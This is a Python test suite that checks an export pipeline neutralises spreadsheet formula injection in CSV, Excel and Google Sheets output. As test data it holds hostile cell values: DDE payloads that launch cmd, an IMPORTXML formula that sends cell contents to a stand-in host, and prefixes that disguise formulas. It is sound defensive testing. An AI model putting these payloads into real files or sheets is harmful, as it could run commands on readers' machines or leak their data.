"""Check 47: nothing that a customer writes is run by the spreadsheet of whoever reads an export."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from unittest.mock import Mock

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from openpyxl import load_workbook

from opsintel_pipeline.act.files import write_file
from opsintel_pipeline.act.formulas import as_text
from opsintel_pipeline.act.rows import COLUMNS, ExportRow
from opsintel_pipeline.act.sheets.client import SheetsClient
from tests.peers.sheets import Spreadsheet, sheets_server

CALLS = ["=cmd|' /C calc'!A0", "+SUM(A1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", '=HYPERLINK("http://x.example","y")',
         "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")"]  # fmt: skip
STARTS = ["", "\t", "\r", "\n", "\r\n", " ", "\xa0", "\u3000", "\u200b", "\ufeff", "\x00", "\x1b", "'\t", '"',
          '" ', " \t ", "\n\n  "]  # fmt: skip
WIDE = ["＝1+1", "＋1", "－1", "＠SUM(1)", "\n＝1", " ＝1", "﹦1", "﹢1"]
BEHIND = ["text\n{}", "text\r{}", "text\r\n{}", "text\n \t{}", "a;{}", "a\t{}", 'a\n"{}', "a;\n{}", "a\x85{}", "{}\n{}"]
DANGEROUS = [
    *(start + call for start in STARTS for call in CALLS),
    *WIDE,
    *(place.format(call, call) for place in BEHIND for call in CALLS),
    "\ttext", "\rtext", "\ntext",
]  # fmt: skip
HARMLESS = ["", "plain", "a = b", "call +49 30 1234567", "re: x - y", "mail@example.com", "3-4", "'quoted'", "a\nb\nc",
            "5 > 3; fine", "x, =y", "№ 1", "a\n\nb"]  # fmt: skip
ROW = ExportRow("key", (1, "title", "new", "sev2", "Other", 3, 2, "a", "b", "email", "example", "http://x/"))
TEXTS = [place for place, cell in enumerate(ROW.cells) if isinstance(cell, str)]


def runs(text: str) -> bool:
    """Tell whether some reader of this cell might run it: by its start, that of a line, or of what a tab or ; ends."""
    for piece in [
        text,
        *text.replace("\r", "\n").replace("\x85", "\n").split("\n"),
        *text.split(";"),
        *text.split("\t"),
    ]:
        bare = piece.lstrip(' \t\r\n\x00\x1b\xa0\u3000\u200b\ufeff"')
        if bare[:1] in tuple("=+-@＝＋－＠﹦﹢﹣﹫") and bare:
            return True
    return text[:1] in ("\t", "\r", "\n") and bool(text)


def written(path: Path, row: ExportRow) -> list[str]:
    write_file([row], path)
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))[1]


def test_check_47_the_tests_know_a_formula():
    assert all(runs(text) for text in DANGEROUS)
    assert not any(runs(text) for text in HARMLESS)


@pytest.mark.parametrize("text", DANGEROUS, ids=ascii)
def test_check_47_no_cell_and_no_line_begins_a_formula(text: str):
    guarded = str(as_text(text))
    assert not runs(guarded)
    kept = iter(guarded)
    assert all(character in kept for character in text)
    assert set(guarded) - set(text) <= {"'"}
    assert as_text(guarded) == guarded


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_check_47_other_text_stays_as_it_is(text: str):
    assert as_text(text) == text
    assert as_text(-5) == -5


@pytest.mark.parametrize("place", TEXTS, ids=[COLUMNS[place] for place in TEXTS])
def test_check_47_every_column_of_a_csv_is_guarded(tmp_path: Path, place: int):
    for text in ["=1+1", "a\n=1+1", "\t=1+1", "＠x", "a;=1+1"]:
        cells = (*ROW.cells[:place], text, *ROW.cells[place + 1 :])
        cell = written(tmp_path / "issues.csv", replace(ROW, cells=cells))[place]
        assert cell == as_text(text) != text


def test_check_47_no_dialect_of_csv_finds_a_cell_that_begins_a_formula(tmp_path: Path):
    texts = [text for text in DANGEROUS if "\x00" not in text]
    rows = [
        replace(ROW, key=f"key-{place}", cells=(*ROW.cells[:1], text, *ROW.cells[2:]))
        for place, text in enumerate(texts)
    ]
    write_file(rows, tmp_path / "issues.csv")
    content = (tmp_path / "issues.csv").read_bytes().decode("utf-8-sig")
    for separator in (",", ";", "\t"):
        for line in csv.reader(io.StringIO(content, newline=""), delimiter=separator):
            assert not [cell for cell in line if runs(cell) and not cell.lstrip('"').startswith("'")]


def test_check_47_every_cell_of_a_workbook_is_text(tmp_path: Path):
    texts = [text for text in DANGEROUS if text.isprintable() or "\n" in text and not set(text) & set("\x00\x1b")]
    cells = [
        tuple(text if isinstance(cell, str) else cell for cell in ROW.cells) for text in [*texts, "{=1+1}", "http://x"]
    ]
    write_file([replace(ROW, cells=row) for row in cells], tmp_path / "issues.xlsx")
    sheet = load_workbook(tmp_path / "issues.xlsx")["Issues"]
    kinds = {cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row}
    assert kinds <= {"s", "n", "inlineStr"}
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.hyperlink]


class TestSheets:
    @pytest.fixture
    def spreadsheet(self) -> Spreadsheet:
        return Spreadsheet()

    @pytest.fixture
    def address(self, spreadsheet: Spreadsheet) -> Iterator[str]:
        with sheets_server(spreadsheet) as found:
            yield found

    def test_check_47_cells_of_a_sheet_are_sent_as_values_and_never_parsed(
        self, spreadsheet: Spreadsheet, address: str
    ):
        key = rsa.generate_private_key(65537, 2048).private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        )
        account = {"type": "service_account", "client_email": "robot@project.example", "private_key": key.decode(),
                   "token_uri": f"{address}/token"}  # fmt: skip
        client = SheetsClient(
            json.dumps(account).encode(), "spreadsheet-1", address, coordinator=Mock(acquire=Mock(return_value=0.0))
        )
        worksheet = client.open_worksheet("Issues", "key")
        client.write(worksheet, [(1, 1, [[text] for text in CALLS])])
        assert [row[0] for row in spreadsheet.rows("Issues")] == CALLS  # the peer takes valueInputOption RAW alone
